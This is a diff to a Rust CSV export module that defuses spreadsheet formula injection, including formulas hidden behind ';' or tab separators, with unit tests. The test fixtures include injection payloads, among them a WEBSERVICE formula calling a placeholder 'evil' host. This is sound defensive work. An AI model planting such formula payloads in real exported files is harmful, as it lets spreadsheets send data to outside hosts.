@@ -17,16 +17,24 @@ use crate::store::{Names, Store, StoreResult, Workspace};
 
 /// One CSV cell: a value that a spreadsheet would run as a formula (it
 /// starts with `=`, `+`, `-`, `@`, a tab or a carriage return: the OWASP
-/// rule) gets a leading `'`; then it is quoted when it holds a comma, quote
-/// or line break (RFC 4180). Every figure the exports carry is a
-/// non-negative number or a date, which no rule touches.
+/// rule), or that would once a spreadsheet splits it at its own list
+/// separator (`,`, `;` or a tab, by locale: `x;=WEBSERVICE(…)`), gets a
+/// leading `'`; then it is quoted when it holds a comma, semicolon, tab,
+/// quote or line break (RFC 4180; a quoted cell is never split, whatever
+/// the separator). Every figure the exports carry is a non-negative number
+/// or a date, which no rule touches.
 pub fn field(s: &str) -> String {
-    let s = if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+    let formula = |part: &str| part.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    let risky = formula(s)
+        || s.split([',', ';', '\t'])
+            .skip(1)
+            .any(|p| formula(p.trim_start()));
+    let s = if risky {
         std::borrow::Cow::Owned(format!("'{s}"))
     } else {
         std::borrow::Cow::Borrowed(s)
     };
-    if s.contains([',', '"', '\r', '\n']) {
+    if s.contains([',', ';', '\t', '"', '\r', '\n']) {
         format!("\"{}\"", s.replace('"', "\"\""))
     } else {
         s.into_owned()
@@ -189,10 +197,28 @@ mod tests {
         assert_eq!(field("+1"), "'+1");
         assert_eq!(field("-2+3"), "'-2+3");
         assert_eq!(field("@SUM(A1)"), "'@SUM(A1)");
-        assert_eq!(field("\tx"), "'\tx");
+        assert_eq!(field("\tx"), "\"'\tx\"");
         assert_eq!(field("\rx"), "\"'\rx\"");
         assert_eq!(field("Q4 = CTOs"), "Q4 = CTOs");
         assert_eq!(field("2026-11-03"), "2026-11-03");
         assert_eq!(field("120"), "120");
+    }
+
+    /// A name that a spreadsheet splits at its own list separator (`;` in
+    /// much of Europe, a tab in pasted text) is neither split nor run.
+    #[test]
+    fn formulas_behind_any_separator_are_defused() {
+        for (given, want) in [
+            (
+                "x;=WEBSERVICE(\"http://evil\")",
+                "\"'x;=WEBSERVICE(\"\"http://evil\"\")\"",
+            ),
+            ("x;  +1", "\"'x;  +1\""),
+            ("x\t@SUM(A1)", "\"'x\t@SUM(A1)\""),
+            ("x,-2", "\"'x,-2\""),
+            ("Q4; CTOs", "\"Q4; CTOs\""),
+        ] {
+            assert_eq!(field(given), want, "{given}");
+        }
     }
 }
